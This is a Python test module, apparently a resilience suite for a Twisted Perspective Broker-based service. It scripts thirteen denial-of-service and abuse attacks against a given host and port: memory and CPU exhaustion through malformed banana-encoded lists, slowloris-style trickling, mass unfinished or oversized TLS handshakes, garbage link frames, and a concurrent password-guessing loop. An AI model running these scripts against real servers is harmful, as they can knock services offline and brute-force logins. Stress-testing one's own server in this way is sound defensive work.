"""What strangers do to the port, each as a program of its own: `python -m tests.attacks NAME ADDRESS PORT`.

Each ends by itself, prints how many connections it has made, and never logs in.
"""

from __future__ import annotations

import contextlib
import os
import resource
import select
import socket
import ssl
import subprocess
import sys
import time
from collections.abc import Callable, Iterator

#: Seconds that those last that go on as long as they are let.
SECONDS = 2.0
#: Seconds to connect, and to wait for an answer.
PATIENCE = 5.0

Place = tuple[str, int]
DIALECT = b"\x02\x82pb"
PB, LINK = "sksd-pb/1", "sksd-link/1"


def tls(place: Place, alpn: str = PB) -> ssl.SSLSocket:
    """A connection that has shaken hands."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(socket.create_connection(place, PATIENCE))


def send(stream: socket.socket, data: bytes, most: int = 1) -> None:
    """`data`, up to `most` times, and then what the host says, until it hangs up."""
    with contextlib.suppress(OSError), stream:
        for _ in range(most):
            stream.sendall(data)
        stream.settimeout(0.1)
        while stream.recv(65536):
            pass


def string(data: bytes) -> bytes:
    """As banana has it."""
    return number(len(data)) + b"\x82" + data


def number(value: int) -> bytes:
    """The prefix of banana."""
    digits = b""
    while value or not digits:
        digits, value = digits + bytes([value & 0x7F]), value >> 7
    return digits


def listed(*items: bytes) -> bytes:
    """A list of banana."""
    return number(len(items)) + b"\x80" + b"".join(items)


def message(arguments: bytes) -> bytes:
    """A call of hello."""
    one, keywords = b"\x01\x81", listed(string(b"dictionary"))
    head = (string(b"message"), one, string(b"root"), string(b"hello"), one)
    return listed(*head, arguments, keywords)


def nothing(place: Place) -> int:
    """For comparison: what the machine itself does to a call."""
    time.sleep(SECONDS)
    return 1


def open_list(place: Place) -> int:
    """A list of strings that is never closed: in a stock server 342 MB."""
    piece = string(b"x" * 600_000)
    for _ in range(20):
        send(tls(place), DIALECT + number(600_000) + b"\x80" + piece, 20)
    return 20


def small_strings(place: Place) -> int:
    """The same with strings of nothing."""
    for _ in range(50):
        send(tls(place), DIALECT + number(600_000) + b"\x80" + b"\x00\x82" * 8000, 20)
    return 50


def nested_lists(place: Place) -> int:
    """Lists in lists: 0.9 s of CPU for a megabyte of them."""
    for data in (b"\x01\x80" * 500_000, (b"\x01\x80" * 38 + b"\x00\x80") * 10_000):
        for _ in range(25):
            send(tls(place), DIALECT + data)
    return 50


def nested_arguments(place: Place) -> int:
    """Calls with arguments that are nested, or of strange types: in a stock server 200,000 lines of log."""
    deep = listed(string(b"tuple"), *[listed(string(b"list"), listed(string(b"os.system"))) for _ in range(40)])
    for _ in range(10):
        for arguments in (listed(string(b"tuple"), listed(string(b"list"))), listed(string(b"x.Y")), deep):
            send(tls(place), DIALECT + message(arguments) * 5)
    return 30


def _many(place: Place, count: int) -> Iterator[socket.socket]:
    for _ in range(count):
        with contextlib.suppress(OSError):
            yield socket.create_connection(place, PATIENCE)


def client_hello(extra: bytes = b"") -> bytes:
    """The first bytes of a handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["x" * 255] * 100 if extra else [PB])
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read() + extra


def unfinished(place: Place) -> int:
    """1,000 that begin a handshake and never end it."""
    hello = client_hello()
    held = []
    for number_of, stream in enumerate(_many(place, 1000)):
        with contextlib.suppress(OSError):
            stream.sendall(hello if number_of % 2 else hello[:100])
        held.append(stream)
    time.sleep(SECONDS)
    return len(held)


def silent(place: Place) -> int:
    """1,000 that say nothing at all."""
    held = list(_many(place, 1000))
    time.sleep(SECONDS)
    return len(held)


def thousand(place: Place) -> int:
    """1,000 that shake hands and wait."""
    held = []
    for _ in range(1000):
        with contextlib.suppress(OSError):
            held.append(tls(place))
    return 1000


def slow(place: Place) -> int:
    """Byte by byte, on 200 connections."""
    held = []
    for _ in range(200):
        with contextlib.suppress(OSError):
            held.append(tls(place))
    data, end = DIALECT + message(listed(string(b"tuple"))), time.monotonic() + SECONDS
    for byte in data * 100:
        if time.monotonic() > end:
            break
        for stream in held:
            with contextlib.suppress(OSError):
                stream.send(bytes([byte]))
        time.sleep(0.02)
    return 200


def large_hello(place: Place) -> int:
    """Handshakes that are too large: many ALPN names, records that never end, no TLS at all."""
    large = b"\x16\x03\x01\x40\x00\x01\x7f\xff\xff\x03\x03" + bytes(16_377)
    garbage = (client_hello(bytes(100_000)), large * 100, b"GET / HTTP/1.1\r\n" * 10_000, os.urandom(100_000))
    for data in garbage:
        for _ in range(20):
            send(socket.create_connection(place, PATIENCE), data)
    return 80


def tiny_records(place: Place) -> int:
    """Records of one byte: what TLS costs is many times what the broker sees."""
    for _ in range(5):
        with contextlib.suppress(OSError), tls(place) as stream:
            stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for byte in (DIALECT + b"\x7f\x82") * 20_000:
                stream.send(bytes([byte]))
    return 5


def padded(place: Place) -> int:
    """Records that are filled up to 16 KiB with nothing, by `openssl s_client`."""
    host = f"[{place[0]}]" if ":" in place[0] else place[0]
    command = ["openssl", "s_client", "-connect", f"{host}:{place[1]}", "-alpn", PB, "-quiet"]
    for _ in range(5):
        with subprocess.Popen(
            [*command, "-record_padding", "16384", "-nocommands"],
            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        ) as client, contextlib.suppress(OSError):  # fmt: skip
            assert client.stdin is not None
            end = time.monotonic() + PATIENCE
            while client.poll() is None and time.monotonic() < end:
                os.write(client.stdin.fileno(), b"\x00")
                time.sleep(0.0005)
            client.kill()
    return 5


def link_garbage(place: Place) -> int:
    """What is no HELLO, and a HELLO that is none."""
    body = b'{"version":1,"link":"' + b"0" * 32 + b'","ticket":"' + b"x" * 4000 + b'"}'
    deep = b"[" * 8000
    frames = (
        os.urandom(100_000),
        b"\x01\xff\xff\xff\x00\x00\x00\x00" + b"{" * 100_000,
        b"\x06\x00\xff\xff\x00\x00\x00\x00" + b"{" * 65_535,
        b"\x01" + len(body).to_bytes(3, "big") + bytes(4) + body,
        b"\x01" + len(deep).to_bytes(3, "big") + bytes(4) + deep,
        b"\x11\x00\x00\x01\x00\x00\x00\x01x" * 10_000,
    )
    for _ in range(15):
        for data in frames:
            send(tls(place, LINK), data)
    return 15 * len(frames)


def guesses(place: Place) -> int:
    """Passwords, as many at once as there is room for."""
    from twisted.spread import jelly

    def encode(item: object) -> bytes:
        match item:
            case list():
                return listed(*(encode(each) for each in item))
            case int():
                return number(item) + b"\x81"
            case bytes():
                return string(item)
        raise TypeError(item)

    def guess(password: int) -> bytes:
        request = ({"method": "password", "user": "", "password": str(password), "protocol": 1},)
        call = [b"message", password, b"root", b"login", 1, jelly.jelly(request), jelly.jelly({})]
        return encode(call)

    tried: dict[socket.socket, int] = {}
    for _ in range(100):
        with contextlib.suppress(OSError):
            stream = tls(place)
            stream.sendall(DIALECT + guess(1))
            tried[stream] = 1
    end = time.monotonic() + SECONDS
    while tried and time.monotonic() < end:
        ready, _, _ = select.select(list(tried), [], [], 0.1)
        for stream in ready:
            try:
                said = stream.recv(65536)
                if not said:
                    raise OSError
                if b"message" in said and b"code" in said:
                    tried[stream] += 1
                    stream.sendall(guess(tried[stream]))
            except OSError:
                del tried[stream]
    return 100


ATTACKS: dict[str, Callable[[Place], int]] = {
    each.__name__: each
    for each in (
        open_list, small_strings, nested_lists, nested_arguments, unfinished, silent, thousand, slow, large_hello,
        tiny_records, padded, link_garbage, guesses,
    )
}  # fmt: skip


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    print({**ATTACKS, "nothing": nothing}[sys.argv[1]]((sys.argv[2], int(sys.argv[3]))))
